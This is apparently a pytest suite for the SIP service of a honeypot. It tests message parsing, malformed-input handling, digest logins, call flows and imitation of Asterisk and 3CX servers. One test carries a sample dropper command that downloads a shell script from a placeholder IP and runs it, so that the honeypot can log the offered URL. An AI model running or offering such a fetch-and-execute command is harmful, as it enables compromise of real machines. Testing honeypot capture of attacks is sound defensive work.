"""The SIP machine fed bytes: parsing, bounds, digest logins, calls, product dialects."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from muscipula import config, services
from muscipula.machine import Close, Emit, Peer, Send, Wake
from muscipula.protocols.sip import digest

UDP = Peer("127.0.0.1", 5060, "10.1.2.3", 40000, "udp")
TCP = Peer("127.0.0.1", 5060, "10.1.2.3", 40001, "tcp")


def make(tmp_path: Path, preset: str = "debian-12", peer: Peer = UDP, **sip):
    body = {"extensions": ["101"], "login": {"accounts": {"102": "s3cret"}}, **sip}
    cfg = config.load(extra={"persona": {"preset": preset}, "services": {"sip": body}})
    return services.factory("sip", cfg, tmp_path)(peer)


def sent(actions) -> list[str]:
    return [a.data.decode() for a in actions if isinstance(a, Send)]


def emits(actions, name: str) -> list[dict]:
    return [dict(a.fields) for a in actions if isinstance(a, Emit) and a.name == name]


def req(method: str, uri: str = "sip:102@127.0.0.1", *, to: str = "<sip:102@127.0.0.1>",
        extra: str = "", body: str = "", call_id: str = "c1", cseq: int = 1,
        eol: str = "\r\n") -> bytes:
    lines = [f"{method} {uri} SIP/2.0", "Via: SIP/2.0/UDP 10.1.2.3:5060;branch=z9hG4bKx;rport",
             "From: <sip:102@127.0.0.1>;tag=f1", f"To: {to}", f"Call-ID: {call_id}",
             f"CSeq: {cseq} {method}"]
    lines += [x for x in extra.split("\n") if x]
    lines.append(f"Content-Length: {len(body)}")
    return (eol.join(lines) + eol + eol + body).encode()


def test_options_asterisk_dialect(tmp_path):
    m = make(tmp_path)
    out = m.receive(req("OPTIONS", "sip:127.0.0.1"), 1000.0)
    (reply,) = sent(out)
    head = reply.split("\r\n")
    assert head[0] == "SIP/2.0 200 OK"
    assert head[1] == "Via: SIP/2.0/UDP 10.1.2.3:5060;rport=40000;received=10.1.2.3;branch=z9hG4bKx"
    assert [h.split(":")[0] for h in head[2:6]] == ["Call-ID", "From", "To", "CSeq"]
    assert head[4] == "To: <sip:102@127.0.0.1>;tag=z9hG4bKx"
    assert "Server: Asterisk PBX 20.6.0" in head and "Content-Length:  0" in head
    assert not head[1].startswith("Content-Length")
    assert emits(out, "sip.command")[0]["status"] == 200


def test_options_3cx_dialect(tmp_path):
    (reply,) = sent(make(tmp_path, "windows-2008r2").receive(req("OPTIONS"), 1000.0))
    assert "User-Agent: 3CXPhoneSystem 15.5.3849.0\r\n" in reply
    assert "Server:" not in reply
    assert re.search(r"^To: <sip:102@127\.0\.0\.1>;tag=\w+\r$", reply, re.M)
    assert "Allow-Events: presence, message-summary, tunnel-info" in reply


def test_compact_folded_lf_only(tmp_path):
    data = (b"OPTIONS sip:127.0.0.1 SIP/2.0\nv: SIP/2.0/UDP 10.1.2.3;branch=z9hG4bKq\n"
            b"f: <sip:a@b>;tag=1\nt: <sip:c@d>\ni: abc\nCSeq: 7\n  OPTIONS\nl: 0\n\n")
    out = make(tmp_path).receive(data, 1000.0)
    (reply,) = sent(out)
    assert reply.startswith("SIP/2.0 200 OK\r\n") and "Call-ID: abc\r\n" in reply
    assert "CSeq: 7 OPTIONS\r\n" in reply


@pytest.mark.parametrize("data", [b"OPTIONS\r\n\r\n", b"GARBAGE sip:x SIP/2.0\r\nno colon\r\n\r\n",
                                  b"\x00\xff" * 50, b"SIP/2.0 200 OK\r\n\r\n"])
def test_malformed_gets_protocol_error_no_traceback(tmp_path, data):
    out = make(tmp_path).receive(data, 1000.0)
    assert emits(out, "protocol.error")


def test_missing_header_gets_400(tmp_path):
    data = req("OPTIONS").replace(b"Call-ID: c1\r\n", b"")
    out = make(tmp_path).receive(data, 1000.0)
    assert sent(out)[0].startswith("SIP/2.0 400 Bad Request")
    assert emits(out, "protocol.error")
    # refused, yet recorded as a request with what it got
    (cmd,) = emits(out, "sip.command")
    assert (cmd["method"], cmd["status"], cmd["call_id"]) == ("OPTIONS", 400, "")


def test_a_request_without_via_is_recorded_unanswered(tmp_path):
    data = req("REGISTER").replace(b"Via: SIP/2.0/UDP 10.1.2.3:5060;branch=z9hG4bKx;rport\r\n",
                                   b"")
    out = make(tmp_path).receive(data, 1000.0)
    assert not sent(out)
    (cmd,) = emits(out, "sip.command")
    assert (cmd["method"], cmd["status"]) == ("REGISTER", 0)


def test_max_message_udp_and_tcp(tmp_path):
    big = req("OPTIONS", extra="X-Pad: " + "a" * 3000)
    out = make(tmp_path, max_message=1024).receive(big, 1000.0)
    assert sent(out)[0].startswith("SIP/2.0 513 Message Too Large")
    assert [c["status"] for c in emits(out, "sip.command")] == [513]
    tcp = make(tmp_path, peer=TCP, max_message=1024)
    out = tcp.receive(b"OPTIONS sip:x SIP/2.0\r\nX: " + b"a" * 2000, 1000.0)
    assert any(isinstance(a, Close) for a in out)
    assert tcp.buffered() == 0


def test_tcp_framing_across_chunks(tmp_path):
    m = make(tmp_path, peer=TCP)
    data = req("OPTIONS", call_id="a") + req("OPTIONS", call_id="b")
    replies: list[str] = []
    for i in range(0, len(data), 7):
        replies += sent(m.receive(data[i:i + 7], 1000.0))
    assert [r.split("Call-ID: ")[1][0] for r in replies] == ["a", "b"]
    assert m.buffered() == 0
    m.receive(b"OPTIONS sip:x SIP/2.0\r\nVia: x", 1000.0)
    assert 0 < m.buffered() <= 16384


def _auth(challenge: str, user: str, password: str, method: str = "REGISTER",
          uri: str = "sip:127.0.0.1") -> str:
    nonce = re.search(r'nonce="([^"]+)"', challenge).group(1)
    realm = re.search(r'realm="([^"]+)"', challenge).group(1)
    f = {"username": user, "realm": realm, "nonce": nonce, "uri": uri, "qop": "auth",
         "nc": "00000001", "cnonce": "cafe"}
    resp = digest.expected(f, method, password)
    return (f'Authorization: Digest username="{user}",realm="{realm}",nonce="{nonce}",'
            f'uri="{uri}",response="{resp}",algorithm=MD5,qop=auth,nc=00000001,cnonce="cafe"')


def test_register_digest_policy(tmp_path):
    m = make(tmp_path)
    (chal,) = sent(m.receive(req("REGISTER", "sip:127.0.0.1"), 1000.0))
    assert chal.startswith("SIP/2.0 401 Unauthorized")
    assert 'realm="asterisk"' in chal and 'qop="auth"' in chal and "algorithm=md5" in chal
    out = m.receive(req("REGISTER", "sip:127.0.0.1", cseq=2,
                        extra=_auth(chal, "102", "wrong")), 1001.0)
    assert sent(out)[0].startswith("SIP/2.0 401")
    (login,) = emits(out, "login")
    assert login["username"] == "102" and login["success"] is False
    assert login["extra"]["hash"].startswith("$sip$*127.0.0.1*10.1.2.3*102*asterisk*REGISTER*sip*")
    out = m.receive(req("REGISTER", "sip:127.0.0.1", cseq=3,
                        extra=_auth(chal, "102", "s3cret")), 1002.0)
    assert sent(out)[0].startswith("SIP/2.0 200 OK")
    assert emits(out, "login")[0]["success"] is True
    # an old nonce is refused as stale, whatever the password
    out = m.receive(req("REGISTER", "sip:127.0.0.1", cseq=4,
                        extra=_auth(chal, "102", "s3cret")), 1100.0)
    assert "stale=true" in sent(out)[0]


def test_nonce_depends_on_time_and_install(tmp_path):
    a = sent(make(tmp_path / "a").receive(req("REGISTER"), 1000.0))[0]
    b = sent(make(tmp_path / "a").receive(req("REGISTER"), 1001.0))[0]
    c = sent(make(tmp_path / "c").receive(req("REGISTER"), 1000.0))[0]
    nonces = {re.search(r'nonce="([^"]+)"', x).group(1) for x in (a, b, c)}
    assert len(nonces) == 3


def test_unknown_extension_per_policy(tmp_path):
    to = "<sip:999@127.0.0.1>"
    assert sent(make(tmp_path).receive(req("REGISTER", to=to), 1.0))[0].startswith(
        "SIP/2.0 404 Not Found")
    assert sent(make(tmp_path, unknown_extension="forbidden").receive(
        req("REGISTER", to=to), 1.0))[0].startswith("SIP/2.0 403 Forbidden")
    assert sent(make(tmp_path, unknown_extension="challenge").receive(
        req("REGISTER", to=to), 1.0))[0].startswith("SIP/2.0 401")


def test_invite_rings_then_busy_and_cancel(tmp_path):
    m = make(tmp_path, invite={"auth": False, "final": "busy", "ring_delay": 0.5,
                               "answer_delay": 0.5})
    sdp = "v=0\r\no=- 5 6 IN IP4 10.1.2.3\r\ns=-\r\nc=IN IP4 10.1.2.3\r\nt=0 0\r\n" \
          "m=audio 4000 RTP/AVP 0\r\n"
    out = m.receive(req("INVITE", extra="Content-Type: application/sdp", body=sdp), 10.0)
    assert [r.split("\r\n")[0] for r in sent(out)] == ["SIP/2.0 100 Trying",
                                                       "SIP/2.0 180 Ringing"]
    cmd = emits(out, "sip.command")[0]
    assert cmd["sdp"]["m"][0]["port"] == "4000" and cmd["sdp"]["o"]["sess_id"] == "5"
    assert Wake(11.0) in out
    assert sent(m.timer(11.0))[0].startswith("SIP/2.0 486 Busy Here")
    # a second call cancelled while ringing
    m.receive(req("INVITE", call_id="c2"), 20.0)
    out = m.receive(req("CANCEL", call_id="c2"), 20.1)
    assert [r.split("\r\n")[0] for r in sent(out)] == ["SIP/2.0 200 OK",
                                                       "SIP/2.0 487 Request Terminated"]
    assert sent(m.receive(req("BYE", call_id="nope"), 21.0))[0].startswith("SIP/2.0 481")


def test_invite_challenged_by_product(tmp_path):
    ast = sent(make(tmp_path).receive(req("INVITE"), 1.0))
    assert ast[0].startswith("SIP/2.0 401")
    tcx = sent(make(tmp_path, "windows-2008r2").receive(req("INVITE"), 1.0))
    assert tcx[0].startswith("SIP/2.0 407") and "Proxy-Authenticate: Digest" in tcx[0]
    assert 'realm="3CXPhoneSystem"' in tcx[0]


def test_unknown_method_and_offers(tmp_path):
    m = make(tmp_path)
    assert sent(m.receive(req("FOO"), 1.0))[0].startswith("SIP/2.0 501 Not Implemented")
    out = m.receive(req("MESSAGE", extra="Content-Type: text/plain",
                        body="wget http://198.51.100.7/x.sh; sh x.sh"), 1.0)
    assert [o["url"] for o in emits(out, "download.offer")] == ["http://198.51.100.7/x.sh"]


def test_max_calls_bound(tmp_path):
    m = make(tmp_path, max_calls=2, invite={"auth": False})
    for i in range(5):
        m.receive(req("INVITE", call_id=f"k{i}"), 1.0)
    assert len(m.calls) == 2


@pytest.mark.parametrize("bad", [
    req("OPTIONS").replace(b"CSeq: 1 OPTIONS", "CSeq: \u00b2 OPTIONS".encode()),
    req("OPTIONS").replace(b"Content-Length: 0", "Content-Length: \u00b2".encode()),
])
def test_unicode_digits_in_numbers_get_400_not_a_traceback(tmp_path, bad):
    m = make(tmp_path)
    acts = m.receive(bad, 1.0)
    assert sent(acts) and sent(acts)[0].startswith("SIP/2.0 400 "), sent(acts)
    assert emits(acts, "protocol.error")


@pytest.mark.parametrize("bad", [
    req("OPTIONS", uri="sip:102@127.0.0.1:\u00b9\u00b2"),
    req("OPTIONS").replace(b"10.1.2.3:5060", "10.1.2.3:\u00b2".encode()),
])
def test_unicode_digits_in_ports_are_no_ports(tmp_path, bad):
    acts = make(tmp_path).receive(bad, 1.0)  # raised ValueError out of the machine before
    assert sent(acts) and sent(acts)[0].startswith("SIP/2.0 ")


def test_a_huge_digest_header_is_read_in_linear_time(tmp_path):
    import time

    for junk in ("a" * 16000, " " * 16000, 'x="' * 5000):
        t = time.perf_counter()
        digest.parse_auth("Digest " + junk)
        assert time.perf_counter() - t < 0.05
    assert digest.parse_auth('Digest username="1", realm="r", junk, nonce="n"') == {
        "username": "1", "realm": "r", "nonce": "n"}
